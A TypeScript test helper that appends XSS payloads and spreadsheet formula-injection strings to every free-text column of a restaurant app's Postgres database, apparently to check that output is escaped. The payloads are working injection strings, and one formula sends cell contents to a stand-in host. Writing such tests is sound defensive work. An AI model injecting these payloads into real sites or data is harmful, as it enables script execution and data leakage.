import type pg from 'pg';

// Texts that would become markup or scripts if they were output without escaping.

/** Marks injected elements by an attribute. Injected scripts call `__ran`. */
export const markOfMarkup = 'data-ran';

/** Each closes the context it is likely to be in, or targets something other than HTML. At most 100 characters long. */
export const markup: readonly string[] = [
  `"'></textarea></style></title></template></script><img data-ran src=//away.invalid/a onerror=__ran()>`,
  '<svg data-ran onload=__ran()><script data-ran>__ran()</script><animate data-ran onbegin=__ran()>',
  '<a data-ran href="javascript:__ran()">a</a><form data-ran action="javascript:__ran()"><base data-ran>',
  `<iframe data-ran srcdoc="<script>parent.__ran()</script>"></iframe><meta data-ran http-equiv=refresh>`,
  `{{constructor.constructor('__ran()')()}}\${__ran()}<%= __ran() %>#{__ran()}[[__ran()]]`,
  '" autofocus onfocus=__ran() data-ran="',
  "' onmouseover='__ran()' data-ran='",
  'javascript:__ran()',
  'data:text/html,<script data-ran>__ran()</script>',
  '--></noscript></select><math data-ran><mtext><style><img data-ran src=x onerror=__ran()>',
  ']]><x data-ran/>&lt;img data-ran src=x onerror=__ran()&gt;&#60;img data-ran&#62;\\u003cimg data-ran\\u003e',
  '\u202e\u2028＜img data-ran onerror=__ran()＞<scr\u200bipt data-ran>__ran()</script>\u00a0',
];
export const shortMarkup = '"><b data-ran onclick=__ran()>';

/** The start of cells that spreadsheets evaluate. */
export const formulas: readonly string[] = [
  '=HYPERLINK("//away.invalid/"&A1)',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '＝1',
  '"=1"&"',
];

// Columns without free text, because they are generated, parsed or used as keys.
const noWords: Readonly<Record<string, readonly string[] | 'all'>> = {
  idempotency_keys: 'all',
  rate_limits: 'all',
  staff_sessions: 'all',
  card_events: 'all',
  password_links: 'all',
  card_checkouts: 'all',
  sandbox_checkouts: 'all',
  sandbox_refunds: 'all',
  restaurant_logos: 'all',
  item_photos: 'all',
  item_photo_files: 'all',
  outbox: ['dedupe_key', 'html', 'plain_text', 'status', 'failure'],
  dining_tables: ['code', 'otp'],
  visits: ['otp', 'last_request_hash'],
  paid_orders: ['otp'],
  visit_moves: ['from_code'],
  sub_orders: ['request_hash'],
  payments: ['provider', 'reference'],
  late_payments: ['provider', 'reference', 'currency'],
  refunds: ['provider', 'reference', 'currency', 'provider_reference'],
  disputes: ['provider', 'provider_reference', 'currency'],
  users: ['username', 'password_hash', 'pin_hash', 'email'],
  restaurants: ['config', 'url'],
  plans: ['charges'],
  printers: ['host'],
};

/** Appends markup to all free text in a database, after one of `before`. Returns the columns that accepted it. */
export async function writeMarkup(client: pg.ClientBase, before: readonly string[] = ['']): Promise<string[]> {
  const { rows } = await client.query<{ table: string; column: string }>(
    `select table_name as table, column_name as column from information_schema.columns
     join information_schema.tables using (table_schema, table_name)
     where table_schema = 'public' and table_type = 'BASE TABLE' and data_type = 'text' and table_name not like 'kysely%'`,
  );
  const written: string[] = [];
  for (const { table, column } of rows) {
    const excepted = noWords[table] ?? [];
    if (excepted !== 'all' && !excepted.includes(column) && (await writeIn(client, table, column, before)) > 0)
      written.push(`${table}.${column}`);
  }
  await client.query(`update kitchen_lines set told = jsonb_set(told, '{name}', to_jsonb(told->>'name' || $1::text))`, [
    markup.join(''),
  ]);
  return written;
}

/** Returns how many rows accepted it. If the text is too long for the column, each row gets a different part of it. */
async function writeIn(
  client: pg.ClientBase,
  table: string,
  column: string,
  before: readonly string[],
): Promise<number> {
  for (const texts of [[markup.join('')], markup, [shortMarkup]]) {
    const change = client.query(
      `update "${table}" set "${column}" = ($3::text[])[1 + abs(hashtext(ctid::text)) % $4] || "${column}"
         || ($1::text[])[1 + abs(hashtext(ctid::text)) % $2]
       where "${column}" is not null`,
      [texts, texts.length, before, before.length],
    );
    const changed = await change.then(
      ({ rowCount }) => rowCount ?? 0,
      () => undefined,
    );
    if (changed !== undefined) return changed;
  }
  return 0;
}
